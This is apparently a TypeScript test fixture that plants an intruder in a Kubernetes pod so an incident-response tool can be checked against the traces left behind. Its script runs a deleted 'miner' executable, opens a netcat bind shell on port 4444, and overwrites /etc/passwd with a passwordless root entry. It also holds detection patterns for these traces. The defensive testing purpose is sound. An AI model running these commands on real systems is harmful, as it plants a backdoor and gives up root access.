// An intruder in a pod, as they leave traces: a program that was deleted and runs on, a back door, a changed file.
import type { Cluster } from '../testbed/cluster.ts';

export const VICTIM = { namespace: 'web', name: 'shop-7' } as const;

const SCRIPT = [
  'cp /bin/busybox /tmp/busybox-miner',
  '/tmp/busybox-miner sleep 1000000 &',
  'until [ "$(readlink /proc/$!/exe)" = /tmp/busybox-miner ]; do sleep 0.1; done; rm /tmp/busybox-miner',
  'busybox nc -ll -p 4444 -e /bin/sh &',
  `echo 'root::0:0::/:/bin/sh' >/etc/passwd`,
  'touch /tmp/ready',
  'while true; do sleep 1; done',
].join('\n');

/** What a responder is to find of it: what it is, and how a line of the terminal shows it. */
export const TRACES: readonly (readonly [what: string, pattern: RegExp])[] = [
  ['the program that was deleted and runs on', /deleted executable \(suspect\) .*busybox-miner/],
  ['the back door', /listener \(suspect\) .*tcp .*port 4444/],
];

export async function intrude(cluster: Cluster, node: string): Promise<void> {
  const { namespace, name } = VICTIM;
  // a namespace of applications, as a careful administrator has it
  const labels = { 'pod-security.kubernetes.io/enforce': 'baseline' };
  await cluster.apply({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: namespace, labels } });
  const readinessProbe = { exec: { command: ['test', '-e', '/tmp/ready'] }, periodSeconds: 1 };
  await cluster.pod(name, SCRIPT, { namespace, node, container: { readinessProbe } });
}
